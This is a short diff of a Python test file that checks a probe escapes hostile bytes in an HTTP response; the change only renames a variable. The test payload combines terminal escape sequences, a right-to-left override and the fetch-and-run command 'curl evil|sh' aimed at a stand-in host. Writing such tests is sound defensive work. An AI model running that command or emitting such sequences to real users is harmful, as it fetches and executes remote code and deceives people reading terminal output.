@@ -126,8 +126,8 @@ def test_what_a_site_writes_obeys_nothing_of_a_terminals(server: Callable[..., i
     evil = "\x1b]0;pwned\x07\x1b[2J\u202ecurl evil|sh\x1b[8m".encode()
     port = server(answer(HEAD.replace(b"200", b"503") + b"\r\n" + evil))
     page = visit(f"http://127.0.0.1:{port}/healthz")
-    said = probe.judge(page, "ab" * 32)
-    assert said == "it answers 503, saying: \\x1b]0;pwned\\x07\\x1b[2J\\u202ecurl evil|sh\\x1b[8m"
+    output = probe.judge(page, "ab" * 32)
+    assert output == "it answers 503, saying: \\x1b]0;pwned\\x07\\x1b[2J\\u202ecurl evil|sh\\x1b[8m"
 
 
 def test_what_a_proxy_writes_is_cut_and_escaped(server: Callable[..., int], monkeypatch: pytest.MonkeyPatch) -> None:
